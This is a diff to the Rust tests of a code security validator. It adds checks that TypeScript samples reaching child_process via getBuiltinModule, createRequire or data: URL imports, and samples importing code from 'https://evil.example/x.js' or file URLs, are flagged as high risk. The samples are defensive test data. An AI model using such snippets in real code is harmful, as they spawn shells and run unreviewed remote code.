@@ -4,8 +4,8 @@
 use std::collections::BTreeSet;
 use std::sync::{Arc, Barrier};
 
-use codeward_core::{CodeValidator, FindingCategory, Language, Severity};
-use codeward_security::{RuleSet, SecurityError, Validator};
+use codeward_core::{CodeValidator, FindingCategory, Language, RiskAssessor, RiskLevel, Severity};
+use codeward_security::{Risk, RuleSet, SecurityError, Validator};
 
 use crate::corpus_code::catalogue;
 
@@ -38,6 +38,22 @@ fn check(language: Language, code: &str, expect: &[&str]) {
             "expected no findings, got {found:?} for:\n{code}"
         );
     }
+}
+
+/// [`check`], and the program must stop at the approval gate (risk high or critical).
+#[track_caller]
+fn check_gated(language: Language, code: &str, expect: &[&str]) {
+    check(language, code, expect);
+    let tools = catalogue();
+    let report = validator().check(code, language, &tools).expect("runs");
+    let risk = Risk::new().assess(code, language, &report, &tools);
+    assert!(
+        risk.level >= RiskLevel::High,
+        "expected high risk, got {} ({}) for:\n{code}\n{:?}",
+        risk.level,
+        risk.score,
+        report.findings
+    );
 }
 
 #[test]
@@ -815,4 +831,58 @@ fn a_lone_carriage_return_ends_a_python_comment() {
             &["ts.dynamic.eval"],
         );
     }
+}
+
+#[test]
+fn typescript_module_loaders_and_url_imports_are_seen() {
+    let ts = Language::TypeScript;
+    // Node 22's process.getBuiltinModule is require for built-in modules.
+    check_gated(
+        ts,
+        "process.getBuiltinModule(\"child_process\").execSync(\"id\");\n",
+        &["ts.process.child-process"],
+    );
+    check_gated(
+        ts,
+        "const { execSync } = globalThis.process.getBuiltinModule('node:child_process');\nexecSync('id');\n",
+        &["ts.process.child-process"],
+    );
+    check_gated(
+        ts,
+        "const m = process.getBuiltinModule(name);\n",
+        &["ts.dynamic.import"],
+    );
+    // createRequire returns a require function.
+    check_gated(
+        ts,
+        "import { createRequire } from 'node:module';\nconst req = createRequire(import.meta.url);\nreq('child_process').exec('id');\n",
+        &["ts.process.child-process"],
+    );
+    // A data: URL import is eval; http(s), file and blob URLs load unreviewed code.
+    check_gated(
+        ts,
+        "await import(\"data:text/javascript,import('child_process').then(m=>m.execSync('id'))\");\n",
+        &["ts.dynamic.url-import"],
+    );
+    check_gated(
+        ts,
+        "import run from 'https://evil.example/x.js';\nrun();\n",
+        &["ts.dynamic.url-import"],
+    );
+    check_gated(
+        ts,
+        "require('file:///tmp/x.js');\n",
+        &["ts.dynamic.url-import"],
+    );
+    // A module named at run time was already refused; it still is.
+    check_gated(
+        ts,
+        "const m = await import(spec);\n",
+        &["ts.dynamic.import"],
+    );
+    check(
+        ts,
+        "const m = await import('./helpers.js');\nm.run();\n",
+        &[],
+    );
 }
